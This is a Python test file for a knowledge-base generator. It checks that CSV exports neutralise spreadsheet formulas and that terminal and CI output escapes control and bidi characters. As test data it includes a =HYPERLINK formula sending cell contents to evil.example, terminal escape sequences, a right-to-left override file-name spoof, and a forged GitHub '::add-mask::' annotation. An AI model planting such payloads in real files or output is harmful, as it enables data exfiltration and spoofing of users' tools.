"""Issue 18 (11): readers' text reaches authors' tools neutralised.

A query ``=HYPERLINK(…)`` is no formula in the CSV kbgen writes (OWASP's CSV-injection rule), and
reading the file back gives the query exactly; ESC, BEL, C1 controls and bidi overrides from a
query, a path, a log line, a file name or a title are printed as visible escapes, never raw.
"""

from __future__ import annotations

import io
import shutil
import tempfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kbgen.commands.build import BuildOptions, build
from kbgen.commands.check import CheckOptions, check
from kbgen.commands.pageviews import PageviewsOptions, pageviews
from kbgen.commands.searches import SearchesOptions, searches
from kbgen.errors import Problem
from kbgen.exitcodes import ExitStatus
from kbgen.loading.walker import load_site
from kbgen.lock import Busy
from kbgen.pageviews.csvio import neutralise_cell, read_counts, render_counts, restore_cell
from kbgen.report import print_problems, printable_stream
from kbgen.text import printable

from .conftest import MINIMAL, kbgen, run_build
from .test_pageviews import line, write

#: what a terminal acts on: ESC (OSC "set title" … BEL), CSI as one C1 character, DEL, RLO, isolates
HOSTILE = ["\x1b", "\x07", "\x9b", "\x85", "\x7f", "\x00", "\r", "\x08", "\u202e", "\u2066", "\u2069", "\u2028"]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ver")'


def _raw_controls(text: str) -> list[str]:
    return [ch for ch in HOSTILE if ch in text]


@pytest.mark.parametrize("char", HOSTILE)
def test_printable_escapes_every_control_and_bidi_character(char: str) -> None:
    shown = printable(f"a{char}b\nc")
    assert char not in shown and shown.startswith("a\\") and shown.endswith("b\nc")


def test_printable_keeps_text_and_can_escape_line_breaks() -> None:
    text = "Certidão Ética — ação 🙂 «x» \\x1b"
    assert printable(text) == text
    assert printable("a\nb", newlines=False) == "a\\x0ab"
    assert printable(printable("\x1b]0;x\x07")) == printable("\x1b]0;x\x07")  # escaping twice changes nothing


@given(st.text())
def test_printable_never_lets_a_hostile_character_through(text: str) -> None:
    assert not _raw_controls(printable(text, newlines=False).replace("\n", "")) and "\n" not in printable(
        text, newlines=False)


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=x", "'", "''", "'a", "#1", "a=b", "",
                                  FORMULA.lower()])
def test_csv_cells_are_neutralised_and_restored_exactly(cell: str) -> None:
    written = neutralise_cell(cell)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore_cell(written) == cell


@given(st.dictionaries(st.text(min_size=1).map(lambda t: " ".join(t.split())).filter(bool),
                       st.integers(1, 10**6), max_size=8))
def test_a_written_counts_file_reads_back_exactly(counts: dict[str, int]) -> None:
    text = render_counts(counts, ("query", "searches"), "test; written by kbgen pageviews")
    for row in text.splitlines()[2:]:
        assert not row.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r"))
    path = Path(tempfile.mkdtemp()) / "searches.csv"
    try:
        path.write_text(text, encoding="utf-8", newline="")
        assert {r.key: r.count for r in read_counts(path, "searches")} == counts
    finally:
        shutil.rmtree(path.parent)


def test_a_file_kbgen_did_not_write_is_read_as_it_is(tmp_path: Path) -> None:
    path = write(tmp_path / "export.csv", "path,views\n'=x.html,3\n")
    assert [r.key for r in read_counts(path)] == ["'=x.html"]


def _hostile_log(tmp_path: Path) -> Path:
    return write(
        tmp_path / "access.log",
        line(1, "/search.html?q=%3DHYPERLINK(%22http://evil.example/%22%26A1,%22ver%22)", ip="10.0.0.1"),
        line(2, "/search.html?q=%1b]0;pwned%07", ip="10.0.0.2"),
        line(3, "/search.html?q=%E2%80%AEtxt.exe", ip="10.0.0.3"),
        line(4, "/fiscal/%1b]0;pwned%07.html", ip="10.0.0.4"),  # a page path matching no article
        line(5, "/fiscal/%C2%9b31m.html", ip="10.0.0.5"),
        "linha estranha \x1b]0;log\x07\n",
    )


def test_pageviews_searches_csv_has_no_formula_and_the_report_no_control(minimal_site: Path,
                                                                         tmp_path: Path) -> None:
    counts, stream = tmp_path / "searches.csv", io.StringIO()
    log = _hostile_log(tmp_path)
    assert pageviews(PageviewsOptions((log,), counts, MINIMAL, searches=True), stream) == ExitStatus.OK
    assert not _raw_controls(stream.getvalue())
    rows = counts.read_text(encoding="utf-8").splitlines()[2:]
    assert all(not row.lstrip('"').startswith(("=", "+", "-", "@")) for row in rows), rows
    assert any(row.startswith("\"'=hyperlink(") for row in rows), rows
    # reading it back gives the readers' queries exactly
    queries = {r.key for r in read_counts(counts, "searches")}
    assert '=hyperlink("http://evil.example/"&a1,"ver")' in queries
    assert "\x1b]0;pwned\x07" in queries
    # an invisible bidi override is dropped with the other invisible characters as the query is masked
    assert "txt.exe" in queries and not any("\u202e" in q for q in queries)

    # standard output is printed too: escaped
    out = io.StringIO()
    pageviews(PageviewsOptions((log,), None, MINIMAL, searches=True), io.StringIO(), out)
    assert "'=hyperlink(" in out.getvalue() and not _raw_controls(out.getvalue())

    # page views: the unmatched-path report and the log line example
    stream = io.StringIO()
    pageviews(PageviewsOptions((log,), tmp_path / "views.csv", MINIMAL), stream)
    report = stream.getvalue()
    assert "fiscal/\\x1b]0;pwned\\x07.html (1)" in report and "linha estranha \\x1b]0;log\\x07" in report
    assert not _raw_controls(report)

    # kbgen searches: text and CSV reports, of this file and of one written by another tool (or by a
    # kbgen before masking) that still holds a bidi override
    with counts.open("a", encoding="utf-8") as more:
        more.write("\u202etxt.exe,1\n")
    text = io.StringIO()
    assert searches(SearchesOptions((counts,), minimal_site), text) == ExitStatus.OK
    assert "\\x1b]0;pwned\\x07" in text.getvalue() and "\\u202etxt.exe" in text.getvalue()
    assert '=hyperlink("http://evil.example/"&a1,"ver")' in text.getvalue()
    assert not _raw_controls(text.getvalue())
    csv_out = io.StringIO()
    searches(SearchesOptions((counts,), minimal_site, output_format="csv"), csv_out)
    rows = csv_out.getvalue().splitlines()[1:]
    assert rows and all(not row.lstrip('"').startswith(("=", "+", "-", "@")) for row in rows), rows
    assert not _raw_controls(csv_out.getvalue())


def test_searches_problems_name_a_hostile_file_escaped(tmp_path: Path) -> None:
    bad = write(tmp_path / "busca\x1b]0;x\x07.csv", "query;searches\nnota;3\n")
    stream = io.StringIO()
    assert searches(SearchesOptions((bad,), tmp_path), io.StringIO(), stream) == ExitStatus.CONTENT_ERROR
    assert "busca\\x1b]0;x\\x07.csv:1:" in stream.getvalue() and not _raw_controls(stream.getvalue())


def test_the_build_summary_escapes_unmatched_paths(site: Path, tmp_path: Path) -> None:
    (site / "_data").mkdir()
    write(site / "_data" / "pageviews.csv", "path,views\nfiscal/\x1b]0;pwned\x07.html,7\n\u202efiscal/x.html,2\n")
    loaded, _problems = load_site(site)
    assert loaded.popular is not None and loaded.popular.summary() is not None
    assert "fiscal/\\x1b]0;pwned\\x07.html (7)" in loaded.popular.summary()
    report, output = run_build(site, tmp_path)
    assert report.status == ExitStatus.OK, output
    assert "fiscal/\\x1b]0;pwned\\x07.html (7)" in output and not _raw_controls(output)


def test_build_and_check_print_other_peoples_text_escaped(site: Path, tmp_path: Path) -> None:
    """The --out folder in the summary and a lock holder's command line (the lock file is in the
    cache, which others may write) reach the terminal escaped, whatever wrote them."""
    report, output = run_build(site, tmp_path, out=tmp_path / "site\x1b]0;x\x07")
    assert report.status == ExitStatus.OK, output
    assert "site\\x1b]0;x\\x07" in output and not _raw_controls(output)

    class Held(Busy):
        def __str__(self) -> str:
            return "the build running as pid 1 (kbgen \x1b]0;pwned\x07 build)"

    def held(*_args: object, **_kwargs: object) -> None:
        raise Held()

    for command in ("build", "check"):
        stream = io.StringIO()
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(f"kbgen.commands.{command}.hold_build", held)
            if command == "build":
                build(BuildOptions(site, tmp_path / "out2", tmp_path / "cache"), stream)
            else:
                check(CheckOptions(site, tmp_path / "cache"), stream)
        assert "kbgen \\x1b]0;pwned\\x07 build" in stream.getvalue(), command
        assert not _raw_controls(stream.getvalue()), command


def test_problems_are_one_escaped_line_each() -> None:
    stream = io.StringIO()
    print_problems([Problem("content/a\x1b]0;x\x07\nforged.md", 3, "title 'x\u202eyz' \x9b31m\nforged: error")],
                   stream)
    lines = stream.getvalue().splitlines()
    assert len(lines) == 2 and lines[0].startswith("content/a\\x1b]0;x\\x07\\x0aforged.md:3: ")
    assert not _raw_controls(stream.getvalue())


def test_file_names_with_control_characters_are_reported_escaped(site: Path, tmp_path: Path) -> None:
    folder = site / "fiscal" / "escrita-fiscal"
    shutil.copy(folder / "como-declarar-sem-movimento.md", folder / "novo\x1b]0;x\x07.md")
    stream = io.StringIO()
    status, _problems = check(CheckOptions(source=site, cache_dir=tmp_path / "cache"), stream)
    assert status == ExitStatus.CONTENT_ERROR
    assert "novo\\x1b]0;x\\x07.md" in stream.getvalue() and not _raw_controls(stream.getvalue())


def test_the_stream_wrapper_escapes_once() -> None:
    target = io.StringIO()
    stream = printable_stream(printable_stream(target))
    print("a\x1bb", file=stream)
    assert target.getvalue() == "a\\x1bb\n"


def test_cli_usage_errors_are_escaped(tmp_path: Path) -> None:
    result = kbgen("pageviews", "nada\x1b]0;x\x07.log", "--source", str(MINIMAL), cwd=tmp_path, timeout=60)
    assert result.returncode == ExitStatus.USAGE_ERROR
    assert "nada\\x1b]0;x\\x07.log: no such log file" in result.stderr and not _raw_controls(result.stderr)


def test_github_annotations_cannot_forge_properties_or_commands() -> None:
    stream = io.StringIO()
    print_problems([Problem("content/a,line=99,title=x:y.md", 3, "100% 'x'\n::add-mask::segredo\r\x1b]0;t\x07")],
                   stream, github=True)
    first = stream.getvalue().splitlines()[0]
    assert first == ("::error file=content/a%2Cline=99%2Ctitle=x%3Ay.md,line=3::100%25 'x'%0A::add-mask::segredo%0D"
                     "\\x1b]0;t\\x07")


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_the_progress_bar_is_kbgens_own_output_and_not_escaped(tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    import kbgen.commands.logsetup as setup

    monkeypatch.setattr(setup, "PROGRESS_BYTES", 0)
    terminal = _Terminal()
    pageviews(PageviewsOptions((_hostile_log(tmp_path),), tmp_path / "v.csv", MINIMAL), terminal)
    shown = terminal.getvalue()
    assert "kbgen: reading logs" in shown and "\\x0d" not in shown and "\\x1b[" not in shown
    assert "linha estranha \\x1b]0;log\\x07" in shown and "\x07" not in shown  # the readers' text still escaped
